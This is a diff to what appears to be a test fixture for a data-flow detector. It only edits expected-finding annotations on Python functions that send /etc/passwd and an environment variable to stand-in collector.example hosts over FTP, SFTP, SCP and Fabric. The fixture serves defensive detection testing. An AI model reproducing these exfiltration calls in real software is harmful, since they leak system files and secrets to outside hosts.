@@ -15,12 +15,12 @@ U = "https://collector.example/u"
 
 def ftp_store():
     f = ftplib.FTP("ftp.collector.example")  #~ capability(NETWORK), endpoint("ftp.collector.example")
-    f.storbinary("STOR x", open("/etc/passwd", "rb"))  #~ source(FILE) f1, sink(egress.ftp) f1, finding(traced) f1, capability(NETWORK)
+    f.storbinary("STOR x", open("/etc/passwd", "rb"))  #~ source(FILE) f1, sink(egress.ftp) f1, finding(traced) f1
 
 
 def ftp_command():
     f = ftplib.FTP()
-    f.connect("ftp2.collector.example")  #~ capability(NETWORK), endpoint("ftp2.collector.example")
+    f.connect("ftp2.collector.example")  #~ endpoint("ftp2.collector.example")
     f.mkd(os.getenv("T"))  #~ source(ENVIRONMENT) f2, sink(egress.ftp) f2, finding(traced) f2
 
 
@@ -30,7 +30,7 @@ def run_chunk(chunk):
 
 def ftp_retrieve():
     f = ftplib.FTP("ftp.collector.example")
-    f.retrbinary("RETR x", run_chunk)  #~ source(NETWORK) fretr, capability(NETWORK)
+    f.retrbinary("RETR x", run_chunk)  #~ source(NETWORK) fretr
 
 
 def ftp_names():
@@ -56,7 +56,7 @@ def ftp_constants():
 def ssh_command():
     c = paramiko.SSHClient()
     c.connect("ssh.collector.example")  #~ capability(NETWORK), endpoint("ssh.collector.example")
-    c.exec_command("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f8, sink(egress.ssh) f8, finding(traced) f8, capability(NETWORK)
+    c.exec_command("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f8, sink(egress.ssh) f8, finding(traced) f8
 
 
 def ssh_output():
@@ -80,7 +80,7 @@ def ssh_session():
 def ssh_transport():
     t = paramiko.Transport(("transport.collector.example", 22))  #~ capability(NETWORK), endpoint("transport.collector.example")
     sftp = paramiko.SFTPClient.from_transport(t)
-    sftp.put("/etc/passwd", "x")  #~ source(FILE) f12, sink(egress.ssh) f12, finding(traced) f12, capability(NETWORK), capability(FILES)
+    sftp.put("/etc/passwd", "x")  #~ source(FILE) f12, sink(egress.ssh) f12, finding(traced) f12, capability(FILES)
 
 
 def sftp_stream():
@@ -166,7 +166,7 @@ def py_constants():
 
 def fabric_put():
     c = fabric.Connection("fabric.collector.example")  #~ capability(NETWORK), endpoint("fabric.collector.example")
-    c.put("/etc/passwd")  #~ source(FILE) f26, sink(egress.ssh) f26, finding(traced) f26, capability(NETWORK), capability(FILES)
+    c.put("/etc/passwd")  #~ source(FILE) f26, sink(egress.ssh) f26, finding(traced) f26, capability(FILES)
 
 
 def fabric_run():
@@ -187,12 +187,12 @@ def fabric_constants():
 
 def copy_files():
     c = scp.SCPClient(paramiko.SSHClient().get_transport())  #~ capability(NETWORK)
-    c.put("/etc/passwd")  #~ source(FILE) f30, sink(egress.ssh) f30, finding(traced) f30, capability(NETWORK), capability(FILES)
+    c.put("/etc/passwd")  #~ source(FILE) f30, sink(egress.ssh) f30, finding(traced) f30, capability(FILES)
 
 
 def copy_stream():
     c = scp.SCPClient(paramiko.SSHClient().get_transport())  #~ ok
-    c.putfo(open("/etc/passwd", "rb"), "x")  #~ source(FILE) f31, sink(egress.ssh) f31, finding(traced) f31, capability(NETWORK)
+    c.putfo(open("/etc/passwd", "rb"), "x")  #~ source(FILE) f31, sink(egress.ssh) f31, finding(traced) f31
     c.putfo(io.BytesIO(b"ping"), "x")  #~ ok
 
 
